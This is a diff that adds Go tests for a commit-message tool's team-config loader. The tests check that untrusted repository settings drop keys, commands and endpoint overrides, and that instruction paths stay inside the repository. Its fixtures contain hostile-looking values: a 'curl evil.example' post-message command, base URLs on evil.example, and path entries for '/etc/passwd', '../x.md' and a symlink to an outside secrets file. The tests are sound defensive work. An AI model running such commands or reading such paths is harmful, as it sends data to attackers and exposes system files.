@@ -0,0 +1,104 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func TestLoadTeamAndMerge(t *testing.T) {
+	repo := t.TempDir()
+	if err := os.Mkdir(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	team := "# shared\nprovider: anthropic\nmodel: claude-3-5-sonnet-latest\nignored_files: [\"*.snap\"]\nrecent_n: 8\nanthropic_key: leaked\npost_message_command: curl evil.example\nbase_url: https://evil.example/v1\nvault_addr: https://evil.example\n"
+	if err := os.WriteFile(filepath.Join(repo, ".commitgen.yaml"), []byte(team), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	teamCfg, path, err := LoadTeam(repo)
+	if err != nil || path != filepath.Join(repo, ".commitgen.yaml") {
+		t.Fatalf("LoadTeam() = %s, %v", path, err)
+	}
+	if teamCfg.AnthropicKey != "" {
+		t.Error("credential from team config was kept")
+	}
+	if teamCfg.PostMessageCommand != "" {
+		t.Error("command from team config was kept")
+	}
+	if teamCfg.Provider != "" || teamCfg.BaseURL != "" || teamCfg.VaultAddr != "" {
+		t.Error("endpoint from team config was kept")
+	}
+
+	three := 3
+	personal := FileConfig{Provider: "anthropic", Model: "claude-3-5-haiku-latest", AnthropicKey: "mine", RecentN: &three}
+	got := Merge(teamCfg, personal)
+	if got.Provider != "anthropic" || got.Model != "claude-3-5-haiku-latest" || got.AnthropicKey != "mine" || *got.RecentN != 3 {
+		t.Errorf("Merge() = %+v", got)
+	}
+	if !slices.Equal(got.IgnoredFiles, []string{"*.snap"}) {
+		t.Errorf("ignored_files = %v", got.IgnoredFiles)
+	}
+
+	outside := filepath.Join(t.TempDir(), "secrets.txt")
+	if err := os.WriteFile(outside, []byte("x"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(repo, "link.md")); err != nil {
+		t.Fatal(err)
+	}
+	team = "instructions: [CONTRIBUTING.md, https://evil.example/x, ../x.md, /etc/passwd, link.md]\n"
+	if err := os.WriteFile(filepath.Join(repo, ".commitgen.yaml"), []byte(team), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if teamCfg, _, _ = LoadTeam(repo); !slices.Equal(teamCfg.Instructions, []string{filepath.Join(repo, "CONTRIBUTING.md")}) {
+		t.Errorf("instructions = %v; want only CONTRIBUTING.md", teamCfg.Instructions)
+	}
+
+	if _, path, _ := LoadTeam(t.TempDir()); path != "" {
+		t.Errorf("LoadTeam outside a repository found %s", path)
+	}
+}
+
+func TestLoadTeamDir(t *testing.T) {
+	repo := t.TempDir()
+	dir := filepath.Join(repo, TeamDir)
+	if err := os.MkdirAll(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(dir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]string{
+		TeamPromptFile: `{{define "reminder"}}Keep it short.{{end}}`,
+		TeamIgnoreFile: "# snapshots\n*.snap\n\npackage-lock.json\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	cfg, path, err := LoadTeam(repo)
+	if err != nil || path != dir {
+		t.Fatalf("LoadTeam() = %s, %v", path, err)
+	}
+	if cfg.PromptTemplate != files[TeamPromptFile] {
+		t.Errorf("prompt_template = %q", cfg.PromptTemplate)
+	}
+	if !slices.Equal(cfg.IgnoredFiles, []string{"*.snap", "package-lock.json"}) {
+		t.Errorf("ignored_files = %v", cfg.IgnoredFiles)
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("ignored_files: [dist/]\nprompt_template: mine\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, path, err = LoadTeam(repo)
+	if err != nil || path != filepath.Join(dir, "config.yaml") {
+		t.Fatalf("LoadTeam() = %s, %v", path, err)
+	}
+	if cfg.PromptTemplate != "mine" || !slices.Equal(cfg.IgnoredFiles, []string{"dist/", "*.snap", "package-lock.json"}) {
+		t.Errorf("LoadTeam() = %+v", cfg)
+	}
+}